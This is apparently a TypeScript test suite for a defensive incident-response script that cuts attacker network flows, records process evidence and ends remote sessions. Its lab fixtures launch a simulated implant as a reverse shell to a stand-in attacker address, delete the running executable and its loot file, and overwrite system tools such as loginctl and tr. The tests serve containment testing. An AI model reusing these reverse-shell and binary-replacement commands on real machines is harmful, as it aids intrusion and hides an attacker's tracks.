/** Processes behind the flows, and the sessions that are ended. */
import assert from 'node:assert/strict';
import { setTimeout as sleep } from 'node:timers/promises';
import { ATTACKER, now, PEERS } from '../lab.ts';
import { AGENT, everyKind, LOGIN, SHELL, scenario } from '../scenario.ts';

scenario(
  'the processes behind the flows: tree, command line, open files and hash, also of a deleted executable',
  async (lab) => {
    const implant = lab.copyPython('/run/implant');
    const sum = lab.victim(`sha256sum ${implant}`).slice(0, 64);
    lab.startShell(
      `cd /run && exec 7>/run/loot && env -i ${implant} -W 'ignore:a\tb|"c\\' -u ${PEERS} reverse_shell ${ATTACKER} ${SHELL} & sleep 1; rm /run/implant /run/loot; wait`,
    );
    lab.startAgent();
    await lab.alive(AGENT);
    await lab.until('the shell is there', () =>
      lab.events.some(({ kind, port }) => kind === 'accepted' && port === SHELL),
    );
    await sleep(1500);
    const { processes = [], verdict, raw } = lab.script('cut');
    const owner = processes.find(({ role }) => role === 'owner');
    assert.equal(owner?.executable, '/run/implant (deleted)');
    assert.equal(owner?.sha256, sum);
    assert.equal(owner?.directory, '/run');
    assert.match(owner?.commandLine ?? '', /-W ignore:a\?b\|"c\\ -u .*reverse_shell 198\.51\.100\.7 4444/);
    assert.ok(owner?.openFiles.includes('/run/loot (deleted)'));
    const child = processes.find(({ role, parentPid }) => role === 'descendant' && parentPid === owner?.pid);
    assert.ok(child?.executable !== undefined && child.sha256 !== null);
    assert.ok(processes.some(({ role, pid }) => role === 'ancestor' && pid === owner?.parentPid));
    assert.deepEqual([verdict.processes, verdict.processesOmitted], [processes.length, 0]);
    assert.ok(raw.length < 20_000);
  },
);

scenario(
  'evidence is bounded, can be turned off, and a command line without end does not hold the cut up',
  async (lab) => {
    await everyKind(lab);
    assert.equal(lab.script('list').processes, undefined);
    const none = lab.script('cut', { environment: { SSM_Evidence: 'none' } });
    assert.equal(none.processes, undefined);
    lab.script('undo');
    lab.startShell(`exec sh -c 'sleep 600; :' ${'x'.repeat(100_000)}`);
    lab.start('many', ATTACKER, 5000, 200);
    await lab.until(
      '200 sockets are open',
      () => lab.events.some(({ kind, held }) => kind === 'ready' && held === 200),
      20,
    );
    for (let n = 0; n < 8; n += 1) lab.start('stubborn_shell', ATTACKER, SHELL);
    await lab.alive(SHELL);
    const { processes = [], verdict, raw, flows } = lab.script('cut', { environment: { SSM_Evidence: '5' } });
    assert.ok(processes.length <= 5 && processes.length > 0);
    assert.equal(processes.length + (verdict.processesOmitted ?? 0) > 5, true);
    assert.ok(raw.length <= 20_000 && flows.length + verdict.omitted === verdict.listed);
    assert.ok((processes[0]?.commandLine?.length ?? 999) <= 256);
  },
);

// ---------------------------------------------------------------------------------------------------------------- sessions

scenario('Sessions=stop ends a login and what it left behind; keep leaves that running', async (lab) => {
  const sshd = lab.copyPython('/usr/sbin/sshd');
  await lab.dialIn(sshd);
  await lab.alive(LOGIN);
  lab.script('cut');
  await sleep(300);
  assert.equal(lab.running('nohup-left-behind'), true);
  lab.script('undo');
  lab.victim("kill $(grep -lsa '^nohup-left-behind' /proc/[0-9]*/cmdline | cut -d/ -f3)");
  lab.redial();
  const from = now();
  await lab.until('a second login', () => lab.dataSince(LOGIN, from) > 1);
  lab.victim(
    [
      'printf \'#!/bin/sh\\necho "$@" >> /run/loginctl\\ncase $1 in list-sessions) echo "c1 0 root"; echo "7 0 root pts/0";; show-session) [ "$2" = 7 ] && echo Remote=yes || echo Remote=no; echo Leader=99999;; esac\\n\' > /usr/bin/loginctl',
      'chmod +x /usr/bin/loginctl',
    ].join(' && '),
  );
  const { verdict } = lab.script('cut', { environment: { SSM_Sessions: 'stop' } });
  assert.deepEqual([verdict.survived, verdict.sessionsEnded], [0, 2]);
  assert.ok((verdict.killed ?? []).length >= 1);
  assert.equal(lab.running('nohup-left-behind'), false);
  assert.deepEqual(lab.victim('grep terminate /run/loginctl').trim(), 'terminate-session 7');
  // Who accepts logins goes on.
  assert.match(lab.victim('ss -tln'), /:22 /);
});

scenario("Sessions=stop ends the agent's sessions and not the agent", async (lab) => {
  const worker = lab.copyPython('/usr/bin/ssm-session-worker');
  lab.startShell(`exec ${worker} -u ${PEERS} stubborn_shell ${ATTACKER} ${SHELL}`);
  lab.startAgent();
  await lab.alive(SHELL, AGENT);
  assert.equal(lab.script('cut', { remote: 'none' }).verdict.listed, 0);
  const { verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Sessions: 'stop' } });
  assert.deepEqual([verdict.listed, verdict.survived, verdict.sessionsEnded], [1, 0, 1]);
  assert.equal(lab.running(worker), false);
  await lab.alive(AGENT);
});

scenario('a session that ends by itself while it is being ended counts', async (lab) => {
  const worker = lab.copyPython('/usr/bin/ssm-session-worker');
  lab.startShell(`exec ${worker} -u ${PEERS} stubborn_shell ${ATTACKER} ${SHELL}`);
  await lab.alive(SHELL);
  // The script has read the executable of the session by then, and looks at it once more through this tool.
  const wrapper = [
    '#!/bin/sh',
    'text=$(cat)',
    `[ "$1" != -c ] || { kill -KILL $(grep -lsa "^${worker}" /proc/[0-9]*/cmdline | cut -d/ -f3); sleep 0.2; }`,
    `printf "%s\\n" "$text" | tr.real "$@"`,
  ].join('\n');
  lab.victim(`mv /usr/bin/tr /usr/bin/tr.real && cat > /usr/bin/tr <<'END'\n${wrapper}\nEND\nchmod +x /usr/bin/tr`);
  const { verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Sessions: 'stop' } });
  assert.deepEqual([verdict.listed, verdict.survived, verdict.sessionsEnded], [1, 0, 1]);
  assert.equal(lab.running(worker), false);
});
